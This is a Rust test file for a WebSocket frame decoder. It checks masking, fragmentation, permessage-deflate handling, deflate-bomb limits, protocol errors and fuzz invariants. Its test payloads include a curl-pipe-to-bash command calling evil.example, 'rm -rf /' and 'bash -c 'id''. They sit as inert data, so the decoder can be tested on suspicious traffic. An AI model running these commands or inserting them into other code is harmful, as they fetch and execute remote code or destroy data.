use flate2::{Compress, Compression, FlushCompress};

use super::*;

type Got = Vec<(MessageKind, Vec<u8>, bool, bool)>;

const CMD: &[u8] = b"curl -fsSL http://evil.example/x.sh | bash";
const MASK: [u8; 4] = [0x37, 0xfa, 0x21, 0x3d];

/// One frame with the shortest length encoding, masked when `mask` is given.
fn frame(fin: bool, rsv1: bool, opcode: u8, payload: &[u8], mask: Option<[u8; 4]>) -> Vec<u8> {
    let mut f = vec![(u8::from(fin) << 7) | (u8::from(rsv1) << 6) | opcode];
    let m = if mask.is_some() { 0x80 } else { 0 };
    match payload.len() {
        n if n < 126 => f.push(m | n as u8),
        n if n <= 0xffff => {
            f.push(m | 126);
            f.extend_from_slice(&(n as u16).to_be_bytes());
        }
        n => {
            f.push(m | 127);
            f.extend_from_slice(&(n as u64).to_be_bytes());
        }
    }
    match mask {
        Some(k) => {
            f.extend_from_slice(&k);
            f.extend(payload.iter().zip(k.iter().cycle()).map(|(b, k)| b ^ k));
        }
        None => f.extend_from_slice(payload),
    }
    f
}

/// Raw deflate with a sync flush and the `00 00 ff ff` tail stripped, as a permessage-deflate sender does.
fn deflate(c: &mut Compress, data: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(data.len() + 1024);
    let before = c.total_in();
    c.compress_vec(data, &mut out, FlushCompress::Sync).unwrap();
    assert_eq!(c.total_in() - before, data.len() as u64, "output room too small for the test");
    assert_eq!(out[out.len() - 4..], DEFLATE_TAIL);
    out.truncate(out.len() - 4);
    out
}

fn raw_deflater() -> Compress {
    Compress::new(Compression::default(), false)
}

fn run(dec: &mut WsDecoder, chunks: &[&[u8]]) -> (Got, Result<(), WsError>) {
    let mut got = Vec::new();
    for c in chunks {
        let r = dec.feed(c, &mut |m| got.push((m.kind, m.data.to_vec(), m.truncated, m.compressed)));
        if r.is_err() {
            return (got, r);
        }
    }
    (got, Ok(()))
}

fn server() -> WsDecoder {
    WsDecoder::new(Sender::Server, None)
}

fn text(data: &[u8]) -> (MessageKind, Vec<u8>, bool, bool) {
    (MessageKind::Text, data.to_vec(), false, false)
}

#[test]
fn unmasked_and_masked_text_frames() {
    let (got, r) = run(&mut server(), &[&frame(true, false, OP_TEXT, CMD, None)]);
    assert_eq!((got, r), (vec![text(CMD)], Ok(())));
    let mut client = WsDecoder::new(Sender::Client, None);
    let (got, r) = run(&mut client, &[&frame(true, false, OP_TEXT, CMD, Some(MASK))]);
    assert_eq!((got, r), (vec![text(CMD)], Ok(())));
    assert!(!client.in_progress());
}

#[test]
fn sixteen_and_sixty_four_bit_lengths() {
    let mid = CMD.repeat(10); // 420 bytes: 16-bit length
    let big = CMD.repeat(2000); // 84000 bytes: 64-bit length
    let f1 = frame(true, false, OP_TEXT, &mid, Some(MASK));
    let f2 = frame(true, false, OP_TEXT, &big, Some(MASK));
    assert_eq!(f1[1] & 0x7f, 126);
    assert_eq!(f2[1] & 0x7f, 127);
    let (got, r) = run(&mut WsDecoder::new(Sender::Client, None), &[&[f1, f2].concat()]);
    assert_eq!((got, r), (vec![text(&mid), text(&big)], Ok(())));
}

#[test]
fn fragments_reassemble_around_interleaved_control_frames() {
    let stream = [
        frame(false, false, OP_TEXT, b"curl -fsSL http://", Some(MASK)),
        frame(true, false, OP_PING, b"hi", Some(MASK)),
        frame(false, false, OP_CONTINUATION, b"evil.example/x.sh", Some(MASK)),
        frame(true, false, OP_PONG, b"", Some(MASK)),
        frame(true, false, OP_CONTINUATION, b" | bash", Some(MASK)),
        frame(true, false, OP_CLOSE, &[0x03, 0xe8, b'b', b'y', b'e'], Some(MASK)),
    ]
    .concat();
    let mut dec = WsDecoder::new(Sender::Client, None);
    let (got, r) = run(&mut dec, &[&stream]);
    assert_eq!((got, r), (vec![text(CMD)], Ok(())));
    assert_eq!(dec.stats().control_frames, 3);
    assert_eq!(dec.stats().frames, 6);
    assert_eq!(dec.close(), Some(Some(1000)));
}

/// A stream mixing everything: fragments, control frames, masked and compressed messages.
fn mixed_stream() -> (Vec<u8>, Got) {
    let mut c = raw_deflater();
    let z1 = deflate(&mut c, CMD);
    let z2 = deflate(&mut c, CMD); // refers back to the first message
    let (z2a, z2b) = z2.split_at(z2.len() / 2);
    let stream = [
        frame(true, false, OP_TEXT, b"hello", Some(MASK)),
        frame(true, true, OP_TEXT, &z1, Some(MASK)),
        frame(false, true, OP_TEXT, z2a, Some(MASK)),
        frame(true, false, OP_PING, b"", Some(MASK)),
        frame(true, false, OP_CONTINUATION, z2b, Some(MASK)),
        frame(false, false, OP_BINARY, "rm -rf ".as_bytes(), Some(MASK)),
        frame(true, false, OP_CONTINUATION, "/ ✓".as_bytes(), Some(MASK)),
        frame(true, false, OP_BINARY, &[0xff, 0xfe, 0x00], Some(MASK)),
    ]
    .concat();
    let want = vec![
        text(b"hello"),
        (MessageKind::Text, CMD.to_vec(), false, true),
        (MessageKind::Text, CMD.to_vec(), false, true),
        (MessageKind::Binary, "rm -rf / ✓".as_bytes().to_vec(), false, false),
    ];
    (stream, want)
}

fn deflate_client() -> WsDecoder {
    WsDecoder::new(Sender::Client, Some(&DeflateParams::default()))
}

#[test]
fn every_split_point_gives_the_same_messages() {
    let (stream, want) = mixed_stream();
    let mut dec = deflate_client();
    assert_eq!(run(&mut dec, &[&stream]), (want.clone(), Ok(())));
    assert_eq!(dec.stats().skipped_binary, 1);
    for i in 0..=stream.len() {
        let (a, b) = stream.split_at(i);
        assert_eq!(run(&mut deflate_client(), &[a, b]), (want.clone(), Ok(())), "split at {i}");
    }
    let bytes: Vec<&[u8]> = stream.chunks(1).collect();
    assert_eq!(run(&mut deflate_client(), &bytes), (want, Ok(())));
}

#[test]
fn every_prefix_of_a_valid_frame_is_incomplete() {
    let mut c = raw_deflater();
    let frames = [
        frame(true, false, OP_TEXT, CMD, None),
        frame(true, false, OP_TEXT, CMD, Some(MASK)),
        frame(true, false, OP_TEXT, &CMD.repeat(5), Some(MASK)),
        frame(true, false, OP_BINARY, &CMD.repeat(1600), None),
        frame(true, true, OP_TEXT, &deflate(&mut c, CMD), Some(MASK)),
        frame(true, false, OP_PING, b"ping", Some(MASK)),
        frame(true, false, OP_TEXT, b"", None),
    ];
    for f in &frames {
        for n in 0..f.len() {
            let mut dec = deflate_client();
            let (got, r) = run(&mut dec, &[&f[..n]]);
            assert_eq!(r, Ok(()), "prefix {n} of {f:02x?}");
            assert!(got.is_empty(), "prefix {n}");
            assert_eq!(dec.in_progress(), n > 0, "prefix {n}");
        }
        let mut dec = deflate_client();
        assert_eq!(run(&mut dec, &[f]).1, Ok(()));
        assert!(!dec.in_progress());
    }
}

#[test]
fn context_takeover_keeps_the_window_across_messages() {
    let mut c = raw_deflater();
    let msgs: Vec<Vec<u8>> = (0..4).map(|i| [CMD, format!(" #{i}").as_bytes()].concat()).collect();
    let stream: Vec<u8> = msgs.iter().flat_map(|m| frame(true, true, OP_TEXT, &deflate(&mut c, m), None)).collect();
    let params = DeflateParams::from_response_header("permessage-deflate").unwrap().unwrap();
    let mut dec = WsDecoder::new(Sender::Server, Some(&params));
    let (got, r) = run(&mut dec, &[&stream]);
    assert_eq!(r, Ok(()));
    let texts: Vec<Vec<u8>> = got.into_iter().map(|m| m.1).collect();
    assert_eq!(texts, msgs);
    // The later messages really refer back: a decoder that resets per message cannot read them.
    let params = DeflateParams::from_response_header("permessage-deflate; server_no_context_takeover").unwrap();
    let (got, r) = run(&mut WsDecoder::new(Sender::Server, params.as_ref()), &[&stream]);
    assert!(r.is_err() || got.iter().map(|m| &m.1).ne(msgs.iter()), "{got:?}");
}

#[test]
fn no_context_takeover_resets_per_message() {
    let msgs = [CMD.to_vec(), CMD.to_vec(), b"bash -c 'id'".to_vec()];
    let stream: Vec<u8> =
        msgs.iter().flat_map(|m| frame(true, true, OP_TEXT, &deflate(&mut raw_deflater(), m), Some(MASK))).collect();
    let params = DeflateParams::from_response_header(
        "permessage-deflate; client_no_context_takeover; client_max_window_bits=10",
    )
    .unwrap();
    let mut dec = WsDecoder::new(Sender::Client, params.as_ref());
    let (got, r) = run(&mut dec, &[&stream]);
    assert_eq!(r, Ok(()));
    assert_eq!(got.into_iter().map(|m| m.1).collect::<Vec<_>>(), msgs);
}

#[test]
fn a_final_deflate_block_starts_a_new_stream_for_the_next_message() {
    let mut stream = Vec::new();
    for _ in 0..2 {
        let mut c = raw_deflater();
        let mut z = Vec::with_capacity(256);
        c.compress_vec(CMD, &mut z, FlushCompress::Finish).unwrap();
        stream.extend(frame(true, true, OP_TEXT, &z, None));
    }
    let (got, r) = run(&mut WsDecoder::new(Sender::Server, Some(&DeflateParams::default())), &[&stream]);
    assert_eq!(r, Ok(()));
    assert_eq!(got.into_iter().map(|m| m.1).collect::<Vec<_>>(), vec![CMD.to_vec(), CMD.to_vec()]);
}

#[test]
fn messages_are_capped_and_a_huge_declared_length_is_never_allocated() {
    let mut dec = server().with_max_message(1000);
    let (got, r) = run(&mut dec, &[&frame(true, false, OP_TEXT, &[b'a'; 1500], None)]);
    assert_eq!(r, Ok(()));
    assert_eq!(got, vec![(MessageKind::Text, vec![b'a'; 1000], true, false)]);
    assert_eq!(dec.stats().truncated_messages, 1);
    assert_eq!(server().with_max_message(usize::MAX).max_message, MAX_MESSAGE_BYTES);

    // A 1 TiB frame: the header is accepted, payload is handled as it comes, memory stays at the cap.
    let mut dec = server();
    let mut head = vec![0x81, 127];
    head.extend_from_slice(&(1u64 << 40).to_be_bytes());
    let chunk = vec![b'x'; 64 << 10];
    let (got, r) = run(&mut dec, &[&head]);
    assert_eq!((got.len(), r), (0, Ok(())));
    for _ in 0..32 {
        let (got, r) = run(&mut dec, &[&chunk]);
        assert_eq!((got.len(), r), (0, Ok(())));
        assert!(dec.buffered() <= DEFAULT_MAX_MESSAGE_BYTES + MAX_CONTROL_PAYLOAD);
    }
    assert!(dec.in_progress());
}

#[test]
fn binary_messages_only_when_utf8() {
    let stream = [
        frame(true, false, OP_BINARY, "bash -c 'id'".as_bytes(), None),
        frame(true, false, OP_BINARY, &[0xc3, 0x28], None),
    ]
    .concat();
    let mut dec = server();
    let (got, r) = run(&mut dec, &[&stream]);
    assert_eq!((got, r), (vec![(MessageKind::Binary, b"bash -c 'id'".to_vec(), false, false)], Ok(())));
    assert_eq!(dec.stats().skipped_binary, 1);
    // A cut inside the last character still counts as UTF-8.
    let mut dec = server().with_max_message(3);
    let (got, _) = run(&mut dec, &[&frame(true, false, OP_BINARY, "ab✓".as_bytes(), None)]);
    assert_eq!(got, vec![(MessageKind::Binary, b"ab\xe2".to_vec(), true, false)]);
}

#[test]
fn a_deflate_bomb_stops_at_the_ratio() {
    let zeros = vec![0u8; 8 << 20];
    let mut c = raw_deflater();
    let mut bomb = Vec::with_capacity(64 << 10);
    c.compress_vec(&zeros, &mut bomb, FlushCompress::Sync).unwrap();
    bomb.truncate(bomb.len() - 4);
    assert!(bomb.len() * (MAX_INFLATE_RATIO as usize) < zeros.len());
    let after = deflate(&mut c, CMD);
    let stream = [frame(true, true, OP_BINARY, &bomb, None), frame(true, true, OP_TEXT, &after, None)].concat();

    // Context takeover: the window is lost, so the next compressed message is counted, not guessed at.
    let mut dec = WsDecoder::new(Sender::Server, Some(&DeflateParams::default())).with_max_message(MAX_MESSAGE_BYTES);
    let (got, r) = run(&mut dec, &[&stream]);
    assert_eq!(r, Ok(()));
    assert_eq!(got.len(), 1);
    assert!(got[0].2, "cut");
    assert!(got[0].1.len() as u64 <= bomb.len() as u64 * MAX_INFLATE_RATIO + INFLATE_SLACK_BYTES + STEP as u64);
    assert_eq!(dec.stats().undecoded_messages, 1);
    assert_eq!(dec.stats().ratio_stops, 1);
    // An uncompressed message still goes through.
    let (got, _) = run(&mut dec, &[&frame(true, false, OP_TEXT, CMD, None)]);
    assert_eq!(got, vec![text(CMD)]);

    // No context takeover: the next message starts afresh.
    let stream = [
        frame(true, true, OP_BINARY, &bomb, None),
        frame(true, true, OP_TEXT, &deflate(&mut raw_deflater(), CMD), None),
    ]
    .concat();
    let params = DeflateParams { server_no_context_takeover: true, ..DeflateParams::default() };
    let mut dec = WsDecoder::new(Sender::Server, Some(&params));
    let (got, r) = run(&mut dec, &[&stream]);
    assert_eq!(r, Ok(()));
    assert_eq!(got.len(), 2);
    assert_eq!(got[0].1.len(), DEFAULT_MAX_MESSAGE_BYTES);
    assert_eq!(got[1], (MessageKind::Text, CMD.to_vec(), false, true));
}

#[test]
fn corrupt_deflate_past_the_cap_is_reported_however_the_bytes_arrive() {
    // Found by the frame-shaped property: an inflater that stopped at the cap noticed the corruption or
    // not depending on the chunking. After 4 KiB of valid data the sync flush's stored block gets a
    // length whose complement check fails.
    let mut z = deflate(&mut raw_deflater(), &CMD.repeat(100));
    z.extend_from_slice(&[0, 0, 0, 0]);
    let f = frame(true, true, OP_TEXT, &z, Some(MASK));
    let params = DeflateParams { client_no_context_takeover: true, ..DeflateParams::default() };
    for split in [1, 7, f.len()] {
        let parts: Vec<&[u8]> = f.chunks(split).collect();
        let mut dec = WsDecoder::new(Sender::Client, Some(&params)).with_max_message(100);
        assert_eq!(run(&mut dec, &parts), (vec![], Err(WsError::BadDeflate)), "split {split}");
    }
}

#[test]
fn protocol_errors_stop_the_decoder() {
    let start = frame(false, false, OP_TEXT, b"a", None);
    let mut huge = vec![0x82, 127];
    huge.extend_from_slice(&(1u64 << 63).to_be_bytes());
    let cases: Vec<(&str, Vec<u8>, WsError, bool)> = vec![
        ("reserved data opcode", frame(true, false, 0x3, b"x", None), WsError::ReservedOpcode(3), false),
        ("reserved control opcode", frame(true, false, 0xB, b"x", None), WsError::ReservedOpcode(0xB), false),
        ("rsv2", vec![0xA1, 0x00], WsError::ReservedBits, false),
        ("rsv3", vec![0x91, 0x00], WsError::ReservedBits, false),
        ("rsv1 without deflate", frame(true, true, OP_TEXT, b"x", None), WsError::ReservedBits, false),
        (
            "rsv1 on a continuation",
            [start.clone(), frame(true, true, OP_CONTINUATION, b"x", None)].concat(),
            WsError::ReservedBits,
            true,
        ),
        ("rsv1 on a control frame", frame(true, true, OP_PING, b"", None), WsError::ReservedBits, true),
        ("long control frame", frame(true, false, OP_PING, &[0; 126], None), WsError::ControlTooLong, false),
        ("fragmented control frame", frame(false, false, OP_CLOSE, b"", None), WsError::FragmentedControl, false),
        ("length with the top bit", huge, WsError::LengthOverflow, false),
        (
            "continuation without a start",
            frame(true, false, OP_CONTINUATION, b"x", None),
            WsError::UnexpectedContinuation,
            false,
        ),
        (
            "data frame inside a fragmented message",
            [start.clone(), frame(true, false, OP_TEXT, b"x", None)].concat(),
            WsError::UnfinishedMessage,
            false,
        ),
        ("bad deflate", frame(true, true, OP_TEXT, &[0xff, 0xff, 0xff, 0xff], None), WsError::BadDeflate, true),
    ];
    for (name, bytes, want, deflate_on) in cases {
        let params = deflate_on.then(DeflateParams::default);
        let mut dec = WsDecoder::new(Sender::Server, params.as_ref());
        let (_, r) = run(&mut dec, &[&bytes]);
        assert_eq!(r, Err(want), "{name}");
        assert_eq!(dec.error(), Some(want), "{name}");
        // Failed for good: valid bytes after the error are not read.
        let (got, r) = run(&mut dec, &[&frame(true, false, OP_TEXT, b"ok", None)]);
        assert_eq!((got.len(), r), (0, Err(want)), "{name}");
        assert_eq!(dec.buffered(), 0, "{name}");
        assert!(!want.to_string().is_empty());
    }
}

#[test]
fn extension_header_parsing() {
    assert_eq!(DeflateParams::from_response_header(""), Ok(None));
    assert_eq!(
        DeflateParams::from_response_header(
            "Permessage-Deflate; server_no_context_takeover; client_no_context_takeover; server_max_window_bits=\"12\"; client_max_window_bits=9"
        ),
        Ok(Some(DeflateParams {
            server_no_context_takeover: true,
            client_no_context_takeover: true,
            server_max_window_bits: Some(12),
            client_max_window_bits: Some(9),
        }))
    );
    let p = DeflateParams::from_response_header("permessage-deflate;client_max_window_bits").unwrap().unwrap();
    assert_eq!(p, DeflateParams::default());
    assert!(p.no_context_takeover(Sender::Client) == p.client_no_context_takeover);
    for bad in [
        "permessage-deflate; server_max_window_bits=7",
        "permessage-deflate; server_max_window_bits=16",
        "permessage-deflate; server_max_window_bits=0x9",
        "permessage-deflate; server_max_window_bits",
        "permessage-deflate; server_no_context_takeover=1",
        "permessage-deflate; server_no_context_takeover; server_no_context_takeover",
        "permessage-deflate; foo",
    ] {
        assert!(matches!(DeflateParams::from_response_header(bad), Err(ExtensionError::BadParameter(_))), "{bad}");
    }
    for unsupported in ["x-webkit-deflate-frame", "permessage-deflate, permessage-deflate", "permessage-deflate, foo"] {
        assert!(
            matches!(DeflateParams::from_response_header(unsupported), Err(ExtensionError::Unsupported(_))),
            "{unsupported}"
        );
    }
}

/// A decoder set up from a fuzz input's first byte: bit 0 permessage-deflate, bit 1 no context takeover,
/// bits 2-3 the message cap.
fn fuzz_decoder(opts: u8) -> WsDecoder {
    let params = DeflateParams { client_no_context_takeover: opts & 2 != 0, ..DeflateParams::default() };
    let cap = [DEFAULT_MAX_MESSAGE_BYTES, 0, 100, 5000][usize::from(opts >> 2 & 3)];
    WsDecoder::new(Sender::Client, (opts & 1 != 0).then_some(&params)).with_max_message(cap)
}

/// The property the fuzz seeds and the proptests check: no panic, memory within the cap, messages within
/// the cap, and the chunking never changes the messages or the error.
pub(crate) fn check_arbitrary(input: &[u8], split: usize) {
    let Some((&opts, bytes)) = input.split_first() else { return };
    let mut whole_dec = fuzz_decoder(opts);
    let whole = run(&mut whole_dec, &[bytes]);
    let parts: Vec<&[u8]> = bytes.chunks(split.max(1)).collect();
    let mut dec = fuzz_decoder(opts);
    let split_run = run(&mut dec, &parts);
    if whole_dec.stats().ratio_stops + dec.stats().ratio_stops == 0 {
        // Where the ratio limit cuts depends on how much input had arrived: the one documented exception.
        assert_eq!(split_run, whole, "split every {split}");
    }
    let cap = dec.max_message;
    assert!(dec.buffered() <= cap + MAX_CONTROL_PAYLOAD);
    assert!(whole.0.iter().all(|m| m.1.len() <= cap && !m.1.is_empty()));
    assert_eq!(dec.error(), split_run.1.err());
}

#[test]
fn fuzz_seeds_replay() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz");
    let mut n = 0;
    for sub in ["corpus/ws", "artifacts/ws"] {
        let Ok(entries) = std::fs::read_dir(dir.join(sub)) else { continue };
        for entry in entries.flatten() {
            let bytes = std::fs::read(entry.path()).unwrap();
            for split in [1, 2, 3, 100, 4096] {
                check_arbitrary(&bytes, split);
            }
            n += 1;
        }
    }
    assert!(n > 0, "no fuzz seeds under {}", dir.display());
    // The seeds decode to the command: they reach the inflater and the reassembly, not just the header.
    for seed in ["masked_fragments_ping", "deflate_takeover", "deflate_no_takeover_masked"] {
        let input = std::fs::read(dir.join("corpus/ws").join(seed)).unwrap();
        let (got, r) = run(&mut fuzz_decoder(input[0]), &[&input[1..]]);
        assert_eq!(r, Ok(()), "{seed}");
        assert!(got.iter().any(|m| m.1 == CMD), "{seed}: {got:?}");
    }
}

#[test]
fn arbitrary_bytes_never_panic_and_stay_bounded() {
    use proptest::prelude::*;
    proptest!(|(input in proptest::collection::vec(any::<u8>(), 0..2000), split in 1usize..50)| {
        check_arbitrary(&input, split);
    });
}

/// Frames with random header bits and payloads, so the fuzzing gets past the first header.
fn frame_like() -> impl proptest::strategy::Strategy<Value = Vec<u8>> {
    use proptest::prelude::*;
    (any::<bool>(), 0u8..8, proptest::collection::vec(any::<u8>(), 0..140), any::<bool>()).prop_map(
        |(fin, op, payload, masked)| {
            let opcode =
                [OP_CONTINUATION, OP_TEXT, OP_BINARY, OP_CLOSE, OP_PING, OP_PONG, 0x3, OP_TEXT][usize::from(op)];
            let rsv1 = op == 7;
            frame(fin || opcode >= OP_CLOSE, rsv1, opcode, &payload, masked.then_some(MASK))
        },
    )
}

#[test]
fn frame_shaped_input_is_chunking_invariant() {
    use proptest::prelude::*;
    proptest!(|(opts: u8, frames in proptest::collection::vec(frame_like(), 0..12), split in 1usize..40)| {
        let input = [vec![opts], frames.concat()].concat();
        check_arbitrary(&input, split);
    });
}

#[test]
fn random_splits_of_a_valid_stream_agree() {
    use proptest::prelude::*;
    let (stream, want) = mixed_stream();
    proptest!(|(cuts in proptest::collection::vec(0..stream.len(), 0..12))| {
        let mut cuts = cuts;
        cuts.sort_unstable();
        let mut parts = Vec::new();
        let mut last = 0;
        for c in cuts {
            parts.push(&stream[last..c]);
            last = c;
        }
        parts.push(&stream[last..]);
        prop_assert_eq!(run(&mut deflate_client(), &parts), (want.clone(), Ok(())));
    });
}
